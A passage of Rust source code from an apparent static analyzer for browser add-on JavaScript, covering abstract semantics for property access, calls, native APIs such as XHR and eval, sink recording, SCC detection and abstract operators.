                        o.write_prop(&pv, &vv, strength == Strength::Strong);
                    }
                }
                self.flow(stmt_id, ctx, st, |k| k != EdgeKind::Uncaught);
            }
            IrStmtKind::DeleteProp { obj, prop } => {
                let ov = self.eval(stmt_id, func, frame, &st, obj);
                let pv = self
                    .eval(stmt_id, func, frame, &st, prop)
                    .to_abstract_string();
                if ov.may_throw_on_access() {
                    self.implicit_throw(stmt_id, ctx, &st);
                }
                let hit: Vec<AllocSite> = ov.objs.iter().copied().collect();
                let strength = self.access_strength(&st, &hit, &pv);
                for site in hit {
                    self.record_write(
                        stmt_id,
                        Loc {
                            site,
                            prop: pv,
                        },
                        strength,
                    );
                    if let Some(o) = st.heap.get_mut(site) {
                        o.delete_prop(&pv);
                    }
                }
                self.flow(stmt_id, ctx, st, |k| k != EdgeKind::Uncaught);
            }
            IrStmtKind::Branch { cond } => {
                let v = self.eval(stmt_id, func, frame, &st, cond);
                let t = v.truthiness();
                let may_true = t.may_be_true() || t == BoolDom::Bot;
                let may_false = t.may_be_false() || t == BoolDom::Bot;
                self.flow(stmt_id, ctx, st, |k| match k {
                    EdgeKind::BranchTrue => may_true,
                    EdgeKind::BranchFalse => may_false,
                    EdgeKind::Uncaught => false,
                    _ => true,
                });
            }
            IrStmtKind::Havoc { dst } => {
                self.write_place(stmt_id, func, frame, &mut st, dst, &AValue::any_bool());
                self.flow(stmt_id, ctx, st, |k| k != EdgeKind::Uncaught);
            }
            IrStmtKind::Return { value } => {
                let v = self.eval(stmt_id, func, frame, &st, value);
                // Flow-sensitive strong update: states from different
                // return statements are joined at the function exit anyway.
                let strength = self.access_strength(&st, &[frame], &Pre::exact(slots::RET));
                st.write_slot(frame, slots::RET, v);
                self.record_write(stmt_id, Loc::exact(frame, slots::RET), strength);
                self.flow(stmt_id, ctx, st, |k| k == EdgeKind::Return);
            }
            IrStmtKind::Throw { value } => {
                let v = self.eval(stmt_id, func, frame, &st, value);
                let strength = self.access_strength(&st, &[frame], &Pre::exact(slots::EXC));
                st.write_slot(frame, slots::EXC, v);
                self.record_write(stmt_id, Loc::exact(frame, slots::EXC), strength);
                self.flow(stmt_id, ctx, st, |k| k == EdgeKind::ThrowExplicit);
            }
            IrStmtKind::CatchBind { dst } => {
                let mut v = st.read_slot([frame], slots::EXC);
                let strength = self.access_strength(&st, &[frame], &Pre::exact(slots::EXC));
                self.record_read(stmt_id, Loc::exact(frame, slots::EXC), strength);
                if v.is_bottom() {
                    // Implicit exceptions carry no modeled value.
                    v = AValue::any();
                }
                self.write_place(stmt_id, func, frame, &mut st, dst, &v);
                self.flow(stmt_id, ctx, st, |k| k != EdgeKind::Uncaught);
            }
            IrStmtKind::ForInNext { dst, obj } => {
                let ov = self.eval(stmt_id, func, frame, &st, obj);
                let mut keys = Pre::Bot;
                for site in &ov.objs {
                    // Enumerating keys observes the object's structure.
                    self.record_read(
                        stmt_id,
                        Loc {
                            site: *site,
                            prop: Pre::any(),
                        },
                        Strength::Weak,
                    );
                    if let Some(o) = st.object(*site) {
                        for k in o.props.keys() {
                            keys = keys.join(&Pre::Exact(*k));
                        }
                        if !o.unknown_props.is_bottom() {
                            keys = Pre::any();
                        }
                    }
                }
                let v = if keys.is_bottom() {
                    AValue::any_str()
                } else {
                    AValue::str(keys)
                };
                self.write_place(stmt_id, func, frame, &mut st, dst, &v);
                self.flow(stmt_id, ctx, st, |k| k != EdgeKind::Uncaught);
            }
            IrStmtKind::Call {
                dst,
                callee,
                this,
                args,
                is_new,
            } => {
                self.handle_call(
                    stmt_id, ctx, func, frame, &mut st, dst, callee, this, args, *is_new,
                );
            }
            IrStmtKind::EventDispatch => {
                let handlers = st.read_slot([self.env.event_registry], slots::HANDLERS);
                self.record_read(
                    stmt_id,
                    Loc::exact(self.env.event_registry, slots::HANDLERS),
                    Strength::Weak,
                );
                let ev = AValue::obj(self.env.event_object);
                self.dispatch_closures(
                    stmt_id,
                    ctx,
                    func,
                    frame,
                    &mut st,
                    None,
                    &handlers,
                    &None,
                    &[ev],
                    false,
                );
                self.flow(stmt_id, ctx, st, |k| k != EdgeKind::Uncaught);
            }
        }
    }

    /// Property load on an abstract value, including string methods and
    /// host-object fallbacks.
    fn load_prop(&mut self, stmt: StmtId, st: &State, ov: &AValue, pv: &Pre) -> AValue {
        let mut out = AValue::bottom();
        let hit: Vec<AllocSite> = ov.objs.iter().copied().collect();
        let strength = self.access_strength(st, &hit, pv);
        for site in &hit {
            self.record_read(
                stmt,
                Loc {
                    site: *site,
                    prop: *pv,
                },
                strength,
            );
            if let Some(o) = st.object(*site) {
                let mut v = o.read_prop(pv);
                // Method fallback for array/object helpers.
                if let Pre::Exact(name) = pv {
                    if !o.props.contains_key(name) {
                        if name == "length" && o.kind == ObjKind::Array {
                            v = v.join(&AValue::any_num());
                        } else if let Some(m) = natives::object_method(name) {
                            if let Some(ns) = self.sites.get(&SiteKey::Host(m)) {
                                v = v.join(&AValue::obj(ns));
                            }
                        }
                    }
                }
                out = out.join(&v);
            }
        }
        // Primitive string receivers: length + string methods.
        if ov.may_be_string() {
            match pv {
                Pre::Exact(name) if name == "length" => {
                    out = out.join(&AValue::any_num());
                }
                Pre::Exact(name) => match natives::string_method(name) {
                    Some(m) => {
                        if let Some(ns) = self.sites.get(&SiteKey::Host(m)) {
                            out = out.join(&AValue::obj(ns));
                        }
                    }
                    None => out = out.join(&AValue::undef()),
                },
                _ => out = out.join(&AValue::any()),
            }
        }
        // Number/bool receivers: treat property reads as undefined-ish.
        if ov.nums != NumDom::Bot || ov.bools != BoolDom::Bot {
            out = out.join(&AValue::undef());
        }
        out
    }

    /// Shared implementation for `Call` and `EventDispatch`.
    #[allow(clippy::too_many_arguments)]
    fn handle_call(
        &mut self,
        stmt_id: StmtId,
        ctx: CtxId,
        func: IrFuncId,
        frame: AllocSite,
        st: &mut State,
        dst: &Place,
        callee: &Operand,
        this: &Option<Operand>,
        args: &[Operand],
        is_new: bool,
    ) {
        let cv = self.eval(stmt_id, func, frame, st, callee);
        let this_v = this
            .as_ref()
            .map(|t| self.eval(stmt_id, func, frame, st, t));
        let arg_vs: Vec<AValue> = args
            .iter()
            .map(|a| self.eval(stmt_id, func, frame, st, a))
            .collect();
        if cv.may_be_primitive() {
            self.implicit_throw(stmt_id, ctx, st);
        }
        self.dispatch_closures(
            stmt_id,
            ctx,
            func,
            frame,
            st,
            Some(dst.clone()),
            &cv,
            &this_v,
            &arg_vs,
            is_new,
        );
    }

    /// Invokes every callable object in `cv`: natives immediately, addon
    /// functions via worklist + return links. Flows to successors when an
    /// immediate result exists.
    #[allow(clippy::too_many_arguments)]
    fn dispatch_closures(
        &mut self,
        stmt_id: StmtId,
        ctx: CtxId,
        func: IrFuncId,
        frame: AllocSite,
        st: &mut State,
        dst: Option<Place>,
        cv: &AValue,
        this_v: &Option<AValue>,
        arg_vs: &[AValue],
        is_new: bool,
    ) {
        let mut native_ids: Vec<NativeId> = Vec::new();
        let mut addon: Vec<(IrFuncId, AllocSite)> = Vec::new();
        let mut has_noncallable_obj = false;
        for site in &cv.objs {
            match st.object(*site).map(|o| o.kind.clone()) {
                Some(ObjKind::Native(id)) => native_ids.push(id),
                Some(ObjKind::Function(fi)) => addon.push((IrFuncId(fi.0), *site)),
                Some(_) => has_noncallable_obj = true,
                None => {}
            }
        }
        if has_noncallable_obj {
            self.implicit_throw(stmt_id, ctx, st);
        }

        let unknown_callee = cv.objs.is_empty();
        let mut immediate: Option<AValue> = None;
        let mut pending_callbacks: Vec<(AValue, Option<AValue>, Vec<AValue>)> = Vec::new();

        for id in native_ids {
            self.native_targets
                .entry(stmt_id)
                .or_default()
                .insert(id);
            if let Some(a) = self.attr_rec() {
                a.native_targets.entry(stmt_id).or_default().insert(id);
            }
            let name = self.env.spec(id).name;
            if self.config.security.interesting_apis.contains(name) {
                self.api_uses.insert((stmt_id, name.to_owned()));
                if let Some(a) = self.attr_rec() {
                    a.api_uses.insert((stmt_id, name.to_owned()));
                }
            }
            let r = self.apply_native(
                id,
                stmt_id,
                ctx,
                st,
                this_v,
                arg_vs,
                &mut pending_callbacks,
            );
            immediate = Some(match immediate {
                Some(v) => v.join(&r),
                None => r,
            });
        }
        if unknown_callee {
            // Robustness for missing stubs: continue with an unknown value.
            immediate = Some(match immediate {
                Some(v) => v.join(&AValue::any()),
                None => AValue::any(),
            });
        }

        // Write the immediate (native / unknown-callee) result BEFORE the
        // addon calls are spawned, so callee states -- and therefore the
        // state flowing back through handle_exit -- already contain it and
        // the later weak join does not seed a spurious `undefined`.
        if let Some(ret) = &immediate {
            if let Some(d) = &dst {
                self.write_place(stmt_id, func, frame, st, d, ret);
            }
        }

        // Addon calls.
        for (fid, closure) in addon {
            self.call_targets
                .entry(stmt_id)
                .or_default()
                .insert(fid);
            if let Some(a) = self.attr_rec() {
                a.call_targets.entry(stmt_id).or_default().insert(fid);
            }
            self.do_addon_call(
                stmt_id, ctx, func, st, fid, closure, this_v, arg_vs, dst.clone(), is_new,
            );
        }

        // Callback invocations requested by natives (forEach, geolocation).
        for (cb, cb_this, cb_args) in pending_callbacks {
            self.dispatch_closures(
                stmt_id, ctx, func, frame, st, None, &cb, &cb_this, &cb_args, false,
            );
        }

        if immediate.is_some() {
            self.flow(stmt_id, ctx, st.clone(), |k| k != EdgeKind::Uncaught);
        }
        // Addon-only calls: successors receive state when the callee exits.
    }

    #[allow(clippy::too_many_arguments)]
    fn do_addon_call(
        &mut self,
        call_stmt: StmtId,
        ctx: CtxId,
        caller_func: IrFuncId,
        st: &State,
        fid: IrFuncId,
        closure: AllocSite,
        this_v: &Option<AValue>,
        arg_vs: &[AValue],
        dst: Option<Place>,
        is_new: bool,
    ) {
        let callee = self.lowered.program.func(fid);
        let new_ctx = self.ctxs.push(ctx, call_stmt, self.config.context_depth);
        let mut callee_st = st.clone();
        let fsite = self.alloc_fresh(
            &mut callee_st,
            SiteKey::Frame(fid, new_ctx),
            ObjKind::Host("frame"),
        );
        let singleton = callee_st
            .object(fsite)
            .is_some_and(|o| o.singleton);
        let strength = if singleton {
            Strength::Strong
        } else {
            Strength::Weak
        };

        // Parameters.
        for i in 0..callee.param_count {
            let v = arg_vs
                .get(i as usize)
                .cloned()
                .unwrap_or_else(AValue::undef);
            let key = self.var_key(i);
            self.record_write(
                call_stmt,
                Loc {
                    site: fsite,
                    prop: key,
                },
                strength,
            );
            if let Some(o) = callee_st.heap.get_mut(fsite) {
                o.write_prop(&key, &v, singleton);
            }
        }
        // Scope chain from the closure.
        let chain = callee_st.read_slot([closure], slots::SCOPE);
        callee_st.write_slot(fsite, slots::CHAIN, chain);
        // Self-binding for named functions.
        if !callee.name.is_empty() {
            if let Some(idx) = callee.lookup_var(&callee.name) {
                let is_param = callee.vars[idx as usize].is_param;
                if !is_param {
                    let key = self.var_key(idx);
                    if let Some(o) = callee_st.heap.get_mut(fsite) {
                        o.write_prop(&key, &AValue::obj(closure), singleton);
                    }
                }
            }
        }
        // `this` binding.
        let new_site = if is_new {
            Some(self.alloc_fresh(
                &mut callee_st,
                SiteKey::NativeAlloc(call_stmt, new_ctx, "new"),
                ObjKind::Plain,
            ))
        } else {
            None
        };
        let tv = match (new_site, this_v) {
            (Some(s), _) => AValue::obj(s),
            (None, Some(t)) => t.clone(),
            (None, None) => AValue::obj(self.env.global),
        };
        callee_st.write_slot(fsite, slots::THIS, tv);
        self.record_write(
            call_stmt,
            Loc::exact(fsite, slots::THIS),
            strength,
        );
        if self.incr.is_some() {
            self.incr_contact(caller_func, ctx, fid, new_ctx, &callee_st);
        }
        self.push_state(callee.entry, new_ctx, callee_st);

        // Locate the CallResult node right after the call (absent for
        // EventDispatch).
        let result_node = self
            .lowered
            .cfg
            .succs(call_stmt)
            .iter()
            .map(|(t, _)| *t)
            .find(|t| {
                matches!(
                    self.lowered.program.stmt(*t).kind,
                    IrStmtKind::CallResult { .. }
                )
            });
        let link = RetLink {
            call: call_stmt,
            caller_ctx: ctx,
            caller_func,
            callee_frame: fsite,
            dst,
            new_site,
            result_node,
        };
        let links = self.ret_links.entry((fid, new_ctx)).or_default();
        if links.insert(link) {
            // A new caller: if the callee exit already has state, replay it.
            self.enqueue(callee.exit, new_ctx);
        }
    }

    fn handle_exit(
        &mut self,
        stmt_id: StmtId,
        ctx: CtxId,
        st: &State,
        func: IrFuncId,
        frame: AllocSite,
    ) {
        let _ = stmt_id;
        let links = match self.ret_links.get(&(func, ctx)) {
            Some(l) => l.clone(),
            None => return, // top level: analysis ends here
        };
        // If the exit is reachable by falling off the end (any non-Return,
        // non-Uncaught incoming edge), the function may return `undefined`.
        let may_fall_off = self
            .lowered
            .cfg
            .preds(stmt_id)
            .iter()
            .any(|(_, k)| !matches!(k, EdgeKind::Return | EdgeKind::Uncaught));
        for link in links {
            let mut out = st.clone();
            let mut retv = out.read_slot([link.callee_frame], slots::RET);
            if may_fall_off || retv.is_bottom() {
                retv = retv.join(&AValue::undef());
            }
            // The return-value transfer belongs to the CallResult node so
            // that argument flows (into the call) and result flows (out of
            // it) stay separate in the PDG.
            let attr = link.result_node.unwrap_or(link.call);
            let ret_strength =
                self.access_strength(&out, &[link.callee_frame], &Pre::exact(slots::RET));
            self.record_read(
                attr,
                Loc::exact(link.callee_frame, slots::RET),
                ret_strength,
            );
            if let Some(ns) = link.new_site {
                retv = retv.without_objects().join(&AValue::obj(ns)).join(&AValue::objects(
                    retv.objs.iter().copied(),
                ));
            }
            if let Some(d) = &link.dst {
                let caller_frame = self.frame_site(link.caller_func, link.caller_ctx);
                // Mixed native+addon callee sets: the native result was
                // already written at the Call node; the CallResult write
                // must be weak (a join) so the Call's definition stays
                // alive in the DDG and the native value is preserved.
                let mixed = self
                    .native_targets
                    .get(&link.call)
                    .is_some_and(|n| !n.is_empty());
                if mixed {
                    self.write_place_weak(
                        attr,
                        link.caller_func,
                        caller_frame,
                        &mut out,
                        d,
                        &retv,
                    );
                } else {
                    self.write_place(
                        attr,
                        link.caller_func,
                        caller_frame,
                        &mut out,
                        d,
                        &retv,
                    );
                }
            }
            self.flow(link.call, link.caller_ctx, out, |k| {
                k != EdgeKind::Uncaught
            });
        }
        let _ = frame;
    }

    /// Applies a native's declarative semantics.
    #[allow(clippy::too_many_arguments)]
    fn apply_native(
        &mut self,
        id: NativeId,
        stmt: StmtId,
        ctx: CtxId,
        st: &mut State,
        this_v: &Option<AValue>,
        args: &[AValue],
        callbacks: &mut Vec<(AValue, Option<AValue>, Vec<AValue>)>,
    ) -> AValue {
        let behavior = self.env.spec(id).behavior.clone();
        let arg = |i: usize| args.get(i).cloned().unwrap_or_else(AValue::undef);
        match behavior {
            NativeBehavior::ReturnAny => AValue::any(),
            NativeBehavior::ReturnHost(name) => match self.sites.get(&SiteKey::Host(name)) {
                Some(site) => AValue::obj(site),
                None => AValue::any(),
            },
            NativeBehavior::ReturnUndefined => AValue::undef(),
            NativeBehavior::ReturnAnyString => AValue::any_str(),
            NativeBehavior::ReturnAnyNum => AValue::any_num(),
            NativeBehavior::ReturnAnyBool => AValue::any_bool(),
            NativeBehavior::CoerceString => {
                AValue::str(self.degrade(arg(0).to_abstract_string()))
            }
            NativeBehavior::XhrConstructor => {
                let site = self.alloc_xhr(stmt, ctx, st);
                AValue::obj(site)
            }
            NativeBehavior::XhrWrapper => {
                let site = self.alloc_xhr(stmt, ctx, st);
                let url = self.degrade(arg(0).to_abstract_string());
                st.write_slot(site, slots::URL, AValue::str(url));
                self.record_write(
                    stmt,
                    Loc::exact(site, slots::URL),
                    Strength::Strong,
                );
                AValue::obj(site)
            }
            NativeBehavior::XhrOpen => {
                let url = self.degrade(arg(1).to_abstract_string());
                if let Some(t) = this_v {
                    for site in &t.objs {
                        let strength = self.access_strength(st, &[*site], &Pre::exact(slots::URL));
                        self.record_write(stmt, Loc::exact(*site, slots::URL), strength);
                        if strength == Strength::Strong {
                            st.write_slot(*site, slots::URL, AValue::str(url.clone()));
                        } else {
                            let old = st.read_slot([*site], slots::URL);
                            st.write_slot(*site, slots::URL, old.join(&AValue::str(url.clone())));
                        }
                    }
                }
                AValue::undef()
            }
            NativeBehavior::XhrSend => {
                let mut domain = Pre::Bot;
                if let Some(t) = this_v {
                    let hit: Vec<AllocSite> = t.objs.iter().copied().collect();
                    for site in &t.objs {
                        let strength =
                            self.access_strength(st, &hit, &Pre::exact(slots::URL));
                        self.record_read(stmt, Loc::exact(*site, slots::URL), strength);
                        let url = st.read_slot([*site], slots::URL);
                        domain = domain.join(&url.strs);
                        // Response callbacks become event-loop handlers.
                        if let Some(o) = st.object(*site) {
                            let mut handlers = AValue::bottom();
                            for cb in ["onreadystatechange", "onload", "onerror"] {
                                handlers = handlers
                                    .join(&o.read_prop(&Pre::exact(cb)).without_primitives());
                            }
                            if !handlers.objs.is_empty() {
                                let old =
                                    st.read_slot([self.env.event_registry], slots::HANDLERS);
                                st.write_slot(
                                    self.env.event_registry,
                                    slots::HANDLERS,
                                    old.join(&handlers),
                                );
                            }
                        }
                    }
                }
                self.record_sink(stmt, SinkKind::Send, domain);
                AValue::undef()
            }
            NativeBehavior::AddEventListener | NativeBehavior::SetTimeout => {
                let handler_idx = if behavior == NativeBehavior::AddEventListener {
                    1
                } else {
                    0
                };
                let h = arg(handler_idx);
                if behavior == NativeBehavior::SetTimeout && h.may_be_string() {
                    // setTimeout with a code string = dynamic code.
                    self.api_uses
                        .insert((stmt, "setTimeout$string".to_owned()));
                    self.record_sink(stmt, SinkKind::Eval, Pre::Bot);
                }
                let old = st.read_slot([self.env.event_registry], slots::HANDLERS);
                st.write_slot(
                    self.env.event_registry,
                    slots::HANDLERS,
                    old.join(&h.without_primitives()),
                );
                self.record_write(
                    stmt,
                    Loc::exact(self.env.event_registry, slots::HANDLERS),
                    Strength::Weak,
                );
                AValue::any_num()
            }
            NativeBehavior::RemoveEventListener => AValue::undef(),
            NativeBehavior::Eval => {
                self.record_sink(stmt, SinkKind::Eval, Pre::Bot);
                AValue::any()
            }
            NativeBehavior::ScriptLoader => {
                let domain = arg(0).to_abstract_string();
                self.record_sink(stmt, SinkKind::ScriptLoader, domain);
                AValue::any()
            }
            NativeBehavior::Str(op) => {
                let mut v = self.apply_str_op(op, stmt, ctx, st, this_v, args);
                v.strs = self.degrade(v.strs);
                v
            }
            NativeBehavior::ArrayPush => {
                if let Some(t) = this_v {
                    for site in &t.objs {
                        self.record_write(
                            stmt,
                            Loc {
                                site: *site,
                                prop: Pre::any(),
                            },
                            Strength::Weak,
                        );
                        if let Some(o) = st.heap.get_mut(*site) {
                            o.write_prop(&Pre::any(), &arg(0), false);
                        }
                    }
                }
                AValue::any_num()
            }
            NativeBehavior::ArrayJoin => {
                let mut v = AValue::bottom();
                if let Some(t) = this_v {
                    for site in &t.objs {
                        self.record_read(
                            stmt,
                            Loc {
                                site: *site,
                                prop: Pre::any(),
                            },
                            Strength::Weak,
                        );
                        if let Some(o) = st.object(*site) {
                            v = v.join(&o.read_prop(&Pre::any()));
                        }
                    }
                }
                AValue::str(v.to_abstract_string().unknown_derived())
            }
            NativeBehavior::InvokeCallback {
                arg_index,
                callback_args,
            } => {
                let cb = arg(arg_index);
                let cb_args: Vec<AValue> = callback_args
                    .iter()
                    .map(|name| match self.sites.get(&SiteKey::Host(name)) {
                        Some(s) => AValue::obj(s),
                        None => AValue::any(),
                    })
                    .collect();
                callbacks.push((cb.without_primitives(), None, cb_args));
                AValue::undef()
            }
            NativeBehavior::ReadSource(host, prop) => {
                match self.sites.get(&SiteKey::Host(host)) {
                    Some(site) => {
                        self.record_read(
                            stmt,
                            Loc::exact(site, prop),
                            Strength::Weak,
                        );
                        match st.object(site) {
                            Some(o) => o.read_prop(&Pre::exact(prop)),
                            None => AValue::any(),
                        }
                    }
                    None => AValue::any(),
                }
            }
            NativeBehavior::PrefWrite => {
                self.record_sink(stmt, SinkKind::PrefWrite, Pre::Bot);
                AValue::undef()
            }
            NativeBehavior::PrefRead => {
                let mut v = AValue::any_str();
                v.nums = NumDom::Top;
                v.bools = BoolDom::Top;
                v
            }
        }
    }

    fn apply_str_op(
        &mut self,
        op: StrOp,
        stmt: StmtId,
        ctx: CtxId,
        st: &mut State,
        this_v: &Option<AValue>,
        args: &[AValue],
    ) -> AValue {
        let recv = this_v
            .as_ref()
            .map(AValue::to_abstract_string)
            .unwrap_or(Pre::any());
        let arg = |i: usize| args.get(i).cloned().unwrap_or_else(AValue::undef);
        match op {
            StrOp::ToLowerCase => AValue::str(recv.to_lowercase()),
            StrOp::ToUpperCase => AValue::str(recv.unknown_derived()),
            StrOp::IndexOf => AValue::any_num(),
            StrOp::Substring => {
                let from = arg(0).nums.as_const();
                let to = arg(1).nums.as_const();
                match (from, to) {
                    (Some(f), Some(t)) if f == 0.0 && t >= 0.0 => {
                        AValue::str(recv.leading_slice(t as usize))
                    }
                    (Some(0.0), None) => AValue::str(recv),
                    _ => AValue::str(recv.unknown_derived()),
                }
            }
            StrOp::CharAt => AValue::any_str(),
            StrOp::Replace | StrOp::Match => AValue::str(recv.unknown_derived()),
            StrOp::Split => {
                let site = self.alloc_fresh(
                    st,
                    SiteKey::NativeAlloc(stmt, ctx, "split"),
                    ObjKind::Array,
                );
                if let Some(o) = st.heap.get_mut(site) {
                    o.write_prop(&Pre::any(), &AValue::any_str(), false);
                    o.write_prop(&Pre::exact("length"), &AValue::any_num(), false);
                }
                AValue::obj(site)
            }
            StrOp::Concat => {
                let mut out = recv;
                for a in args {
                    out = out.concat(&a.to_abstract_string());
                }
                AValue::str(out)
            }
            StrOp::Trim => match recv {
                Pre::Exact(s) => AValue::str(Pre::exact(s.trim())),
                other => AValue::str(other.unknown_derived()),
            },
            StrOp::ToString => AValue::str(recv),
        }
    }

    fn alloc_xhr(&mut self, stmt: StmtId, ctx: CtxId, st: &mut State) -> AllocSite {
        let site = self.alloc_fresh(
            st,
            SiteKey::NativeAlloc(stmt, ctx, "xhr"),
            ObjKind::Host("xhr"),
        );
        let methods = [
            ("open", "xhr.open"),
            ("send", "xhr.send"),
            ("setRequestHeader", "xhr.setRequestHeader"),
            ("abort", "xhr.abort"),
            ("overrideMimeType", "xhr.overrideMimeType"),
        ];
        for (prop, native) in methods {
            if let Some(ns) = self.sites.get(&SiteKey::Host(native)) {
                if let Some(o) = st.heap.get_mut(site) {
                    o.write_prop(&Pre::exact(prop), &AValue::obj(ns), true);
                }
            }
        }
        if let Some(o) = st.heap.get_mut(site) {
            o.write_prop(&Pre::exact("responseText"), &AValue::any_str(), true);
            o.write_prop(&Pre::exact("responseXML"), &AValue::any(), true);
            o.write_prop(&Pre::exact("status"), &AValue::any_num(), true);
            o.write_prop(&Pre::exact("readyState"), &AValue::any_num(), true);
        }
        site
    }

    /// Degrades a string under the configured domain: with the
    /// constant-only ablation, proper prefixes become unknown.
    fn degrade(&self, p: Pre) -> Pre {
        match (self.config.string_domain, &p) {
            (StringDomain::ConstantOnly, Pre::Prefix(s)) if !s.is_empty() => Pre::any(),
            _ => p,
        }
    }

    fn record_sink(&mut self, stmt: StmtId, kind: SinkKind, domain: Pre) {
        let slot = self
            .sink_domains
            .entry((stmt, kind.clone()))
            .or_insert(Pre::Bot);
        *slot = slot.join(&domain);
        if let Some(a) = self.attr_rec() {
            let slot = a.sink_domains.entry((stmt, kind)).or_insert(Pre::Bot);
            *slot = slot.join(&domain);
        }
    }
}

/// Projects the context-qualified transition graph's cycles down to
/// statements: a statement is cyclic if any of its context-qualified
/// nodes lies in a non-trivial SCC (or has a self loop).
fn cyclic_statements(transitions: &BTreeSet<(CtxNode, CtxNode)>) -> BTreeSet<StmtId> {
    // Dense node numbering (nodes are Copy ids, so keys are by value).
    let mut index_of: HashMap<CtxNode, usize> = HashMap::new();
    let mut nodes: Vec<CtxNode> = Vec::new();
    for &(a, b) in transitions {
        for n in [a, b] {
            if !index_of.contains_key(&n) {
                index_of.insert(n, nodes.len());
                nodes.push(n);
            }
        }
    }
    let n = nodes.len();
    let mut adj: Vec<Vec<usize>> = vec![Vec::new(); n];
    for (a, b) in transitions {
        adj[index_of[a]].push(index_of[b]);
    }
    // Iterative Tarjan SCC.
    let mut index = vec![usize::MAX; n];
    let mut low = vec![0usize; n];
    let mut on_stack = vec![false; n];
    let mut stack = Vec::new();
    let mut next = 0usize;
    let mut out = BTreeSet::new();
    #[derive(Clone, Copy)]
    struct Frame {
        v: usize,
        pos: usize,
    }
    for root in 0..n {
        if index[root] != usize::MAX {
            continue;
        }
        let mut call = vec![Frame { v: root, pos: 0 }];
        while let Some(fr) = call.last_mut() {
            let v = fr.v;
            if fr.pos == 0 {
                index[v] = next;
                low[v] = next;
                next += 1;
                stack.push(v);
                on_stack[v] = true;
            }
            if fr.pos < adj[v].len() {
                let w = adj[v][fr.pos];
                fr.pos += 1;
                if index[w] == usize::MAX {
                    call.push(Frame { v: w, pos: 0 });
                } else if on_stack[w] {
                    low[v] = low[v].min(index[w]);
                }
            } else {
                call.pop();
                if let Some(p) = call.last() {
                    low[p.v] = low[p.v].min(low[v]);
                }
                if low[v] == index[v] {
                    let mut comp = Vec::new();
                    loop {
                        let w = stack.pop().expect("scc stack");
                        on_stack[w] = false;
                        comp.push(w);
                        if w == v {
                            break;
                        }
                    }
                    if comp.len() > 1 || adj[v].contains(&v) {
                        out.extend(comp.into_iter().map(|i| nodes[i].0));
                    }
                }
            }
        }
    }
    out
}

/// Abstract unary operators.
fn abstract_unop(op: UnaryOp, v: &AValue) -> AValue {
    match op {
        UnaryOp::Not => {
            let mut out = AValue::bottom();
            out.bools = v.truthiness().not();
            if out.bools == BoolDom::Bot {
                out.bools = BoolDom::Top;
            }
            out
        }
        UnaryOp::Neg => AValue {
            nums: to_num(v).unop(|n| -n),
            ..AValue::bottom()
        },
        UnaryOp::Pos => AValue {
            nums: to_num(v),
            ..AValue::bottom()
        },
        UnaryOp::BitNot => AValue {
            nums: to_num(v).unop(|n| !(n as i64 as i32) as f64),
            ..AValue::bottom()
        },
        UnaryOp::Void => AValue::undef(),
        UnaryOp::Typeof | UnaryOp::Delete => AValue::any(), // lowered separately
    }
}

/// Coerces to the numeric component (conservative).
fn to_num(v: &AValue) -> NumDom {
    let mut n = v.nums;
    if v.undef || v.null || v.bools != BoolDom::Bot || !v.strs.is_bottom() || !v.objs.is_empty()
    {
        // Coercions of non-number parts produce some number (or NaN).
        n = n.join(&NumDom::Top);
    }
    if n == NumDom::Bot {
        NumDom::Top
    } else {
        n
    }
}

/// Abstract `typeof`.
fn abstract_typeof(v: &AValue, st: &State) -> AValue {
    let mut tags: BTreeSet<&'static str> = BTreeSet::new();
    if v.undef {
        tags.insert("undefined");
    }
    if v.null {
        tags.insert("object");
    }
    if v.bools != BoolDom::Bot {
        tags.insert("boolean");
    }
    if v.nums != NumDom::Bot {
        tags.insert("number");
    }
    if !v.strs.is_bottom() {
        tags.insert("string");
    }
    for site in &v.objs {
        match st.object(*site).map(|o| o.kind.is_callable()) {
            Some(true) => {
                tags.insert("function");
            }
            _ => {
                tags.insert("object");
            }
        }
    }
    match tags.len() {
        0 => AValue::str(Pre::exact("undefined")),
        1 => AValue::str(Pre::exact(*tags.iter().next().expect("one tag"))),
        _ => AValue::any_str(),
    }
}

/// Abstract binary operators.
fn abstract_binop(op: BinaryOp, l: &AValue, r: &AValue) -> AValue {
    use BinaryOp::*;
    match op {
        Add => {
            let mut out = AValue::bottom();
            let l_stringy = l.may_be_string() || !l.objs.is_empty();
            let r_stringy = r.may_be_string() || !r.objs.is_empty();
            if l_stringy || r_stringy {
                out.strs = l.to_abstract_string().concat(&r.to_abstract_string());
            }
            let l_numy = l.undef || l.null || l.bools != BoolDom::Bot || l.nums != NumDom::Bot;
            let r_numy = r.undef || r.null || r.bools != BoolDom::Bot || r.nums != NumDom::Bot;
            if (l_numy || l.nums != NumDom::Bot) && (r_numy || r.nums != NumDom::Bot) {
                out.nums = match (l.nums, r.nums) {
                    (NumDom::Const(a), NumDom::Const(b))
                        if !l_stringy && !r_stringy && l.bools == BoolDom::Bot
                            && r.bools == BoolDom::Bot
                            && !l.undef && !r.undef && !l.null && !r.null =>
                    {
                        NumDom::Const(a + b)
                    }
                    _ => NumDom::Top,
                };
            }
            if out == AValue::bottom() {
                // Everything was objects with unknown coercion.
                out.strs = Pre::any();
                out.nums = NumDom::Top;
            }
            out
        }
        Sub | Mul | Div | Mod | Shl | Shr | UShr | BitAnd | BitOr | BitXor => {
            let f = |a: f64, b: f64| match op {
                Sub => a - b,
                Mul => a * b,
                Div => a / b,
                Mod => a % b,
                Shl => ((a as i64 as i32) << ((b as i64 as u32) & 31)) as f64,
                Shr => ((a as i64 as i32) >> ((b as i64 as u32) & 31)) as f64,
                UShr => ((a as i64 as u32) >> ((b as i64 as u32) & 31)) as f64,
                BitAnd => ((a as i64 as i32) & (b as i64 as i32)) as f64,
                BitOr => ((a as i64 as i32) | (b as i64 as i32)) as f64,
                BitXor => ((a as i64 as i32) ^ (b as i64 as i32)) as f64,
                _ => unreachable!(),
            };
            AValue {
                nums: to_num(l).binop(&to_num(r), f),
                ..AValue::bottom()
            }
        }
        Eq | StrictEq | NotEq | StrictNotEq => {
            let negate = matches!(op, NotEq | StrictNotEq);
            let decided: Option<bool> = if !l.strs.is_bottom()
                && !r.strs.is_bottom()
                && !l.undef && !l.null && l.bools == BoolDom::Bot && l.nums == NumDom::Bot
                && l.objs.is_empty()
                && !r.undef && !r.null && r.bools == BoolDom::Bot && r.nums == NumDom::Bot
                && r.objs.is_empty()
            {
                l.strs.compare_eq(&r.strs)
            } else if let (Some(a), Some(b)) = (l.nums.as_const(), r.nums.as_const()) {
                if l.may_be_string() || r.may_be_string() || !l.objs.is_empty()
                    || !r.objs.is_empty() || l.undef || r.undef || l.null || r.null
